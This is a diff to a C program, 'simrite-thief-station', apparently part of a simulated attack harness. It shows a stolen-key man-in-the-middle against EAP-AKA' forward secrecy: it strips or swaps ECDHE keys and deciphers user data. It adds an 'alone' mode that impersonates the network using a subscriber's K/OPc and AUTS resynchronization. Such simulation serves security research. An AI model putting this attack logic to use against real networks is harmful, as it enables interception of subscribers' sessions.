@@ -2,8 +2,8 @@
  *
  *     simrite-thief-station CAPTURED OUT   < the frames (simrite radio between)
  *
- * CAPTURED holds keys.jsonl, another thief's loot, and perhaps plan.txt: the
- * one word "exchange" (or no file) or "strip". Frames come on standard input,
+ * CAPTURED holds keys.jsonl, another thief's loot, and perhaps plan.txt: one
+ * word, "exchange" (or no file), "strip" or "alone". Frames come on standard input,
  * a socket, and go back on it: a byte for the side (0 phone, 1 network), one
  * for the kind, two for the link, and what went over the air. That is all it
  * gets. With K and OPc it knows K_aut, so it can change a challenge and an
@@ -13,12 +13,18 @@
  *   strip     the phone is offered none; the network gets the thief's key
  *
  * and in both cases user data is deciphered with one key and enciphered with
- * the other. Without the key of a subscriber everything passes as it is. */
+ * the other. Or it needs no network at all:
+ *
+ *   alone     the thief makes vectors and is the network; a card that has seen
+ *             later numbers tells them to whoever has K, in AUTS
+ *
+ * Without the key of a subscriber everything passes as it is. */
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
 
+#include "auth/milenage.h"
 #include "crypto/wipe.h"
 #include "eap/eap_keys.h"
 #include "eap/ecdhe.h"
@@ -41,15 +47,24 @@ struct link {
 	const struct stolen_key *key;
 	struct eap_keys basic;        /* as without forward secrecy */
 	struct ecdhe to_phone;        /* the key the phone was given */
-	struct eap_list offered;      /* the network's AT_KDF_FS */
+	struct eap_list offered;      /* the network's AT_KDF_FS, or the thief's */
 	uint8_t heard[EAP_PUB_ECDHE]; /* the network's AT_PUB_ECDHE */
 	size_t heard_length;
 	uint8_t kup[2][16]; /* of the phone's session and of the network's */
 	bool open, counted;
+	uint8_t identifier; /* alone: of the challenge that is out; its vector */
+	struct aka_vector vector;
 };
 
+enum plan {
+	EXCHANGE,
+	STRIP,
+	ALONE,
+};
+static const char *const plans[] = {"exchange", "strip", "alone"};
+
 struct station {
-	bool strip;
+	enum plan plan;
 	struct stolen stolen;
 	struct link links[LINKS];
 	size_t count;
@@ -104,13 +119,14 @@ static bool know(struct link *link, const struct eap_packet *p, const uint8_t *i
 static int change_challenge(struct station *s, struct link *link, struct eap_writer *w,
 			    const struct eap_packet *p)
 {
+	const bool strip = s->plan == STRIP;
 	size_t i;
 
 	link->offered = p->kdf_fs;
 	link->heard_length = p->pub_ecdhe.length;
 	memcpy(link->heard, p->pub_ecdhe.at, p->pub_ecdhe.length);
 	ecdhe_wipe(&link->to_phone);
-	if (!s->strip &&
+	if (!strip &&
 	    ecdhe_generate(&link->to_phone, (enum ecdhe_group)p->kdf_fs.values[0], &ecdhe_kernel) < 0)
 		return -1;
 	s->changed++;
@@ -120,9 +136,9 @@ static int change_challenge(struct station *s, struct link *link, struct eap_wri
 	for (i = 0; i < p->kdf.count; i++)
 		eap_write_number(w, AT_KDF, p->kdf.values[i]);
 	eap_write(w, AT_KDF_INPUT, p->kdf_input.at, p->kdf_input.length);
-	for (i = 0; !s->strip && i < p->kdf_fs.count; i++)
+	for (i = 0; !strip && i < p->kdf_fs.count; i++)
 		eap_write_number(w, AT_KDF_FS, p->kdf_fs.values[i]);
-	if (!s->strip)
+	if (!strip)
 		eap_write(w, AT_PUB_ECDHE, link->to_phone.public_key,
 			  ecdhe_public_length(link->to_phone.group));
 	if (p->checkcode.at)
@@ -174,8 +190,106 @@ static int change_answer(struct link *link, struct eap_writer *w, const struct e
 	return eap_write_finish(w, link->basic.k_aut);
 }
 
-/* An EAP packet on its way: its new length, in place. */
-static size_t pass_eap(struct station *s, struct link *link, uint8_t *bytes, size_t length)
+/* ---- alone ---- */
+
+/* The network that this identity belongs to, by its realm (TS 23.003 19.2). */
+static bool name_network(struct link *link)
+{
+	static const char wlan[] = "@wlan.";
+	const char *realm = strstr(link->identity, wlan);
+	int n = realm ? snprintf(link->network, sizeof(link->network), "5G:%s", realm + strlen(wlan)) : -1;
+
+	return n > 0 && (size_t)n < sizeof(link->network);
+}
+
+/* A challenge of the thief's own, for this SQN; both groups are offered. */
+static int own_challenge(struct link *link, struct eap_writer *w, const uint8_t sqn[static 6])
+{
+	static const uint8_t amf[2] = {0x80, 0};
+	const struct span name = {(const uint8_t *)link->network, strlen(link->network)};
+	struct aka_vector *v = &link->vector;
+	uint8_t rand[16];
+	size_t i;
+
+	if (ecdhe_kernel.fill(ecdhe_kernel.context, rand, sizeof(rand)) < 0 ||
+	    milenage_vector(v, link->key->k, link->key->opc, rand, sqn, amf) < 0 ||
+	    eap_keys_derive(&link->basic, v->ck, v->ik, name, v->autn, identity_of(link)) < 0 ||
+	    ecdhe_generate(&link->to_phone, (enum ecdhe_group)link->offered.values[0], &ecdhe_kernel) < 0)
+		return -1;
+	eap_write_start(w, EAP_REQUEST, ++link->identifier, EAP_AKA_CHALLENGE);
+	eap_write(w, AT_RAND, v->rand, 16);
+	eap_write(w, AT_AUTN, v->autn, 16);
+	eap_write_number(w, AT_KDF, 1);
+	eap_write(w, AT_KDF_INPUT, name.at, name.length);
+	for (i = 0; i < link->offered.count; i++)
+		eap_write_number(w, AT_KDF_FS, link->offered.values[i]);
+	eap_write(w, AT_PUB_ECDHE, link->to_phone.public_key, ecdhe_public_length(link->to_phone.group));
+	eap_write_mac(w);
+	return eap_write_finish(w, link->basic.k_aut);
+}
+
+/* SEQ one on, IND as it is (TS 33.102 Annex C.3). */
+static void step(uint8_t sqn[static 6])
+{
+	unsigned carry = 32;
+	int i;
+
+	for (i = 5; i >= 0; i--) {
+		carry += sqn[i];
+		sqn[i] = (uint8_t)carry;
+		carry >>= 8;
+	}
+}
+
+/* The phone asks for the other group: RFC 9678 6.2. */
+static int own_other_group(struct link *link, struct eap_writer *w, unsigned group,
+			   const uint8_t sqn[static 6])
+{
+	if (link->offered.count != 2 || link->offered.values[1] != group)
+		return -1;
+	link->offered = (struct eap_list){{(uint16_t)group, link->offered.values[0], (uint16_t)group}, 3};
+	return own_challenge(link, w, sqn);
+}
+
+/* The last word, when the phone has answered: its session is the thief's. */
+static int own_success(struct link *link, struct eap_writer *w, const struct eap_packet *p)
+{
+	link->open = side_key(link->kup[PHONE], link, &link->to_phone, p->pub_ecdhe);
+	memcpy(link->kup[NETWORK], link->kup[PHONE], sizeof(link->kup[PHONE])); /* there is no other */
+	ecdhe_wipe(&link->to_phone);
+	eap_write_other(w, EAP_SUCCESS, p->identifier, 0, (struct span){NULL, 0});
+	return eap_write_finish(w, NULL);
+}
+
+/* What a network says to the phone; 0: this goes on to the real one. */
+static int be_network(struct station *s, struct link *link, struct eap_writer *w, const struct eap_packet *p)
+{
+	uint8_t sqn[6] = {0};
+
+	if (!link->key || p->code != EAP_RESPONSE)
+		return 0;
+	if (p->type == EAP_IDENTITY && name_network(link)) {
+		s->changed++;
+		link->identifier = p->identifier;
+		link->offered = (struct eap_list){{ECDHE_X25519, ECDHE_P256}, 2};
+		return own_challenge(link, w, sqn);
+	}
+	if (p->auts.at &&
+	    milenage_resync(sqn, link->key->k, link->key->opc, link->vector.rand, p->auts.at) == OK) {
+		step(sqn);
+		return own_challenge(link, w, sqn);
+	}
+	if (p->subtype == EAP_AKA_CHALLENGE && p->res.at)
+		return own_success(link, w, p);
+	if (p->subtype == EAP_AKA_CHALLENGE && p->kdf_fs.count == 1)
+		return own_other_group(link, w, p->kdf_fs.values[0], sqn);
+	return 0;
+}
+
+/* ---- frames ---- */
+
+/* An EAP packet on its way: its new length, in place; *back: it goes back to where it came from. */
+static size_t pass_eap(struct station *s, struct link *link, uint8_t *bytes, size_t length, bool *back)
 {
 	struct eap_writer w;
 	struct eap_packet p;
@@ -187,15 +301,18 @@ static size_t pass_eap(struct station *s, struct link *link, uint8_t *bytes, siz
 		take_identity(s, link, p.data);
 	if (p.code == EAP_RESPONSE && p.identity.at)
 		take_identity(s, link, p.identity);
-	if (p.code == EAP_REQUEST && p.subtype == EAP_AKA_CHALLENGE && p.rand.at && p.autn.at) {
+	if (s->plan == ALONE) {
+		n = be_network(s, link, &w, &p);
+		*back = n > 0;
+	} else if (p.code == EAP_REQUEST && p.subtype == EAP_AKA_CHALLENGE && p.rand.at && p.autn.at) {
 		link->open = false;
 		link->offered.count = link->heard_length = 0;
 		if (know(link, &p, bytes, length) && p.kdf_fs.count && p.pub_ecdhe.at &&
 		    p.pub_ecdhe.length <= sizeof(link->heard))
 			n = change_challenge(s, link, &w, &p);
-	}
-	if (p.code == EAP_RESPONSE && p.subtype == EAP_AKA_CHALLENGE && p.res.at && link->network[0])
+	} else if (p.code == EAP_RESPONSE && p.subtype == EAP_AKA_CHALLENGE && p.res.at && link->network[0]) {
 		n = change_answer(link, &w, &p);
+	}
 	if (n <= 0)
 		return length;
 	memcpy(bytes, w.bytes, (size_t)n);
@@ -228,15 +345,18 @@ static int stand_between(struct station *s, struct fault *fault)
 	struct link *link;
 	ssize_t n;
 	size_t length;
+	bool back;
 
 	while ((n = read(STDIN_FILENO, message, sizeof(message))) > HEADER) {
 		link = link_of(s, (uint16_t)(message[2] << 8 | message[3]));
 		length = (size_t)n - HEADER;
+		back = false;
 		if (link && message[1] == AIR_EAP)
-			length = pass_eap(s, link, message + HEADER, length);
+			length = pass_eap(s, link, message + HEADER, length, &back);
 		else if (link && message[1] == AIR_PDCP)
 			pass_pdcp(s, link, message + HEADER, length, message[0] == PHONE ? PHONE : NETWORK);
-		message[0] = message[0] == PHONE ? NETWORK : PHONE;
+		if (!back)
+			message[0] = message[0] == PHONE ? NETWORK : PHONE;
 		if (write(STDIN_FILENO, message, HEADER + length) < 0)
 			break;
 	}
@@ -246,10 +366,11 @@ static int stand_between(struct station *s, struct fault *fault)
 }
 
 /* The plan, if there is one. */
-static int take_plan(bool *strip, const char *captured, struct fault *fault)
+static int take_plan(enum plan *plan, const char *captured, struct fault *fault)
 {
 	char path[512], word[32] = "exchange";
 	FILE *file;
+	size_t i;
 
 	(void)snprintf(path, sizeof(path), "%s/plan.txt", captured);
 	file = fopen(path, "re");
@@ -258,10 +379,12 @@ static int take_plan(bool *strip, const char *captured, struct fault *fault)
 			word[0] = 0;
 		fclose(file);
 	}
-	*strip = !strcmp(word, "strip");
-	if (*strip || !strcmp(word, "exchange"))
-		return 0;
-	return fault_set(fault, FAULT_INPUT, NULL, "plan.txt says neither strip nor exchange");
+	for (i = 0; i < sizeof(plans) / sizeof(plans[0]); i++)
+		if (!strcmp(word, plans[i])) {
+			*plan = (enum plan)i;
+			return 0;
+		}
+	return fault_set(fault, FAULT_INPUT, NULL, "plan.txt says neither exchange nor strip nor alone");
 }
 
 int main(int argc, char **argv)
@@ -274,7 +397,7 @@ int main(int argc, char **argv)
 		fputs("usage: simrite-thief-station CAPTURED OUT\n", stderr);
 		return FAULT_USAGE;
 	}
-	if (take_plan(&s.strip, argv[1], &fault) == 0 && stolen_read(&s.stolen, argv[1], &fault) == 0 &&
+	if (take_plan(&s.plan, argv[1], &fault) == 0 && stolen_read(&s.stolen, argv[1], &fault) == 0 &&
 	    (e = loot_go_on(&s.loot, argv[2], &fault)) == 0) {
 		e = stand_between(&s, &fault);
 		if (loot_close(&s.loot, &fault) < 0)
@@ -285,8 +408,7 @@ int main(int argc, char **argv)
 	else
 		printf("{\"type\":\"result\",\"schema\":1,\"thief\":\"station\",\"plan\":\"%s\",\"links\":%zu,"
 		       "\"challenges_changed\":%u,\"keys\":%zu,\"sessions\":%u}\n",
-		       s.strip ? "strip" : "exchange", s.count, s.changed, s.stolen.count,
-		       s.loot.session_count);
+		       plans[s.plan], s.count, s.changed, s.stolen.count, s.loot.session_count);
 	stolen_free(&s.stolen);
 	wipe(&s, sizeof(s));
 	return e < 0 ? (int)fault.code : 0;
